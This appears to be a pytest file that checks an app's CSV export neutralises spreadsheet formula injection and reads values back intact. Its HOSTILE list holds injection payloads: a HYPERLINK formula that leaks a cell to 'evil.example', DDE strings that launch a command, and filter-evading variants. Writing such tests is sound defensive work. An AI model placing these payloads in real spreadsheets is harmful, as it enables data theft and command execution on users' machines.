"""The one CSV writer: no cell a spreadsheet runs, and what was written reads back."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from lib import spreadsheet
from tests.sheets import STARTS, live_formulas, rows, runs_as_formula

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",  # already looks neutralised: must still read back as itself
    "''@x",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_text_in_the_header_and_in_the_rows(value: str) -> None:
    body = spreadsheet.text([[value, "name"], ["plain", value]])
    assert live_formulas(body) == []
    assert [[spreadsheet.restore(c) for c in row] for row in rows(body)] == [
        [value, "name"],
        ["plain", value],
    ]


@pytest.mark.parametrize("value", ["Python", "'Tis", "C++", "a=b", "", "x-y"])
def test_plain_text_is_written_as_it_is(value: str) -> None:
    assert rows(spreadsheet.text([[value]])) == [[value]]


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert spreadsheet.text([[-3, 1.5, None, True, "-3"]]) == "-3,1.5,,True,'-3\r\n"


def test_lines_stream_one_line_per_row_and_write_fills_a_file() -> None:
    table = [["mentee", "=1+1"], ["ada", "@x"]]
    assert list(spreadsheet.lines(table, lineterminator="\n")) == ["mentee,'=1+1\n", "ada,'@x\n"]
    out = io.StringIO(newline="")
    spreadsheet.write(out, table)
    assert out.getvalue() == spreadsheet.text(table) == "mentee,'=1+1\r\nada,'@x\r\n"


@settings(max_examples=500, deadline=None)
@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
@example([[s] for s in STARTS])
@example([["'" * 3 + "=", "\u3000@", " \t\r\n"]])
def test_any_text_reads_back_as_no_formula_and_as_itself(table: list[list[str]]) -> None:
    body = spreadsheet.text(table)
    read = rows(body)
    assert not [c for row in read for c in row if runs_as_formula(c)]
    assert [[spreadsheet.restore(c) for c in row] for row in read] == table


def test_every_csv_in_the_app_is_written_by_the_one_writer() -> None:
    """A new export that calls csv.writer itself would skip the neutralising."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    skipped = {".venv", ".git", "tests", "node_modules", "static"}
    folders = [p for p in ROOT.iterdir() if p.is_dir() and p.name not in skipped]
    found = sorted(
        str(path.relative_to(ROOT))
        for folder in folders
        for path in folder.rglob("*.py")
        if writers.search(path.read_text())
    )
    assert found == ["lib/spreadsheet.py"]
